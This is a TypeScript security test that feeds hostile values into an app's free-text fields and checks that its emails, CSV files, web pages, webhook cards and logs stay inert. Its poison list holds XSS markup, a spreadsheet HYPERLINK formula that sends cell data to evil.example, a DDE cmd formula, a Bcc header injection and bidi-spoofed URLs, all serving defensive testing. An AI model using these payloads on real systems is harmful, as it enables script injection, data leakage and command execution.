// A tenant whose every name, subject and title was written by the intruder, lived through by the built app: the mail, its
// files, the page, the card and the log. Nothing of it becomes a tag, a line, a link, a formula or a header.
import { createServer } from 'node:http';
import { expect, it } from 'vitest';
import { z } from 'zod';
import { builtStack } from './fakes/whole.ts';

const within = builtStack();

const emoji = '👩‍💻';
const poisons = [
  '<script>alert(1)</script><img src=x onerror=alert(1)>"\'',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  'Adele\r\n\r\n1. Nothing. All is well\r\nBcc: intruder@evil.example',
  'x\u2028WHAT YOU DO NOW\u2029y',
  '\u202e\u2066moc.live//:sptth\u202c',
  `[pay](https://evil.example/login) ${emoji.repeat(40)}`,
  `${'A'.repeat(10_000)}`,
  '\u200b=1+1',
];
/** What people may call a thing; ids, addresses, times and words of the service stay. */
const free =
  /^(displayName|Name|subject|FriendlyName|DeviceModel|DeviceOS|appDisplayName|resourceDisplayName|browser|operatingSystem|userAgent|name|jobTitle|department|officeLocation|city|title|description|BodyContainsWords|SubjectContainsWords)$/;

/** Replaces each free text by the next poison, so that between them all fields get all of them. */
function poisoned(tenant: unknown): { tenant: unknown; fields: number } {
  let fields = 0;
  const swap = (value: unknown, key: string): unknown => {
    if (Array.isArray(value)) return value.map((entry: unknown) => swap(entry, key));
    if (value !== null && typeof value === 'object') {
      return Object.fromEntries(Object.entries(value).map(([name, entry]) => [name, swap(entry, name)]));
    }
    if (typeof value !== 'string' || !free.test(key)) return value;
    fields += 1;
    return `${poisons[fields % poisons.length]}`;
  };
  return { tenant: swap(tenant, ''), fields };
}

const mailSchema = z.object({
  subject: z.string(),
  body: z.object({ content: z.string() }),
  alternative: z.object({ content: z.string() }),
  attachments: z.array(z.object({ name: z.string(), contentType: z.string(), contentBytes: z.string() })),
});

/** Cells of a table as RFC 4180 has them. */
const cellsOf = (csv: string) =>
  [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, bare = '']) => quoted?.replaceAll('""', '"') ?? bare,
  );

/** Tags that a mail or a page of this app is made of. */
const ours =
  /^<(!doctype html|\/?(html|head|title|style|body|div|table|tr|td|th|thead|tbody|h1|h2|h3|b|a|p|pre|ul|ol|li|nav|main|header|footer|section|details|summary|svg|rect|span|form|button|label|input|select|option|fieldset|legend)|meta)\b[^<>]*>$/;
const unseen = /[\p{Cf}\u2028\u2029]/u;

function inert(html: string): void {
  const body = html.replace(/<style>.*?<\/style>/s, '');
  for (const tag of body.match(/<[^>]*>/g) ?? []) {
    expect(tag).toMatch(ours);
    expect(tag.replaceAll(/"[^"]*"/g, '')).not.toMatch(/\son\w+=/);
  }
  for (const [, href = ''] of body.matchAll(/href="([^"]*)"/g)) expect(href).not.toContain('evil.example');
  expect(body).not.toMatch(unseen);
}

it('everything that strangers may call anything is inert wherever it is shown', async () => {
  const cards: string[] = [];
  const hook = createServer((request, answer) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      cards.push(Buffer.concat(chunks).toString('utf8'));
      answer.writeHead(202).end();
    });
  });
  await new Promise<void>((resolve) => hook.listen(0, '127.0.0.1', resolve));
  const address = hook.address();
  const port = typeof address === 'object' ? address?.port : undefined;
  let fields = 0;
  const settings = { WEBHOOK_URL: `http://127.0.0.1:${port}/hook`, WEBHOOK_CASES: 'always' };
  const change = (tenant: unknown) => {
    const swapped = poisoned(tenant);
    fields = swapped.fields;
    return swapped.tenant;
  };
  await within(
    'business-email-compromise',
    async (whole) => {
      const { runs } = await whole.live();
      expect(fields).toBeGreaterThan(poisons.length * 2);
      expect(runs).toHaveLength(1);
      const [sent] = whole.stack.tenant.state().outbox ?? [];
      const mail = mailSchema.parse(sent?.message);

      expect(mail.subject).toMatch(/^\[Reclaim\] [A-Z ,0-9]+: adele@contoso\.com \([0-9A-Z]{4}\)$/);
      inert(mail.body.content);
      expect(mail.alternative.content).not.toMatch(/<(?=\n)|\r|https?:\/\/evil/);
      expect(mail.alternative.content).not.toMatch(unseen);
      for (const line of mail.alternative.content.split('\n').slice(1)) {
        expect(line).toMatch(/^$|^[A-Z ?,]+$|^(-|\d+\.) |^ {4}/);
      }
      expect(mail.attachments.map(({ name }) => name)).toContain('sent-mail-recipients.csv');
      for (const file of mail.attachments.filter(({ contentType }) => contentType === 'text/csv')) {
        const csv = Buffer.from(file.contentBytes, 'base64').toString('utf8');
        for (const cell of cellsOf(csv)) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@]/u);
      }

      const path = `/api/runs/${runs[0]?.run.row.id}`;
      for (const page of [path, `${path}?do=undo`, '/api/runs']) {
        const answer = await fetch(`${whole.stack.door?.url}${page}`, { headers: { accept: 'text/html' } });
        const html = await answer.text();
        expect([page, answer.status]).toEqual([page, 200]);
        expect(Buffer.byteLength(html)).toBeLessThan(60_000);
        inert(html);
      }

      expect(cards.length).toBeGreaterThan(0);
      for (const card of cards) {
        expect(Buffer.byteLength(card)).toBeLessThan(28_000);
        expect(card).not.toMatch(/"TextBlock"|https?:\/\/evil/);
        expect(card).not.toMatch(unseen);
      }
      for (const { message } of whole.log.filter(({ source }) => source === 'app')) {
        expect(message).not.toMatch(/[\r\n]/);
        expect(message).not.toMatch(unseen);
      }
    },
    settings,
    change,
  );
  hook.closeAllConnections();
  hook.close();
}, 60_000);
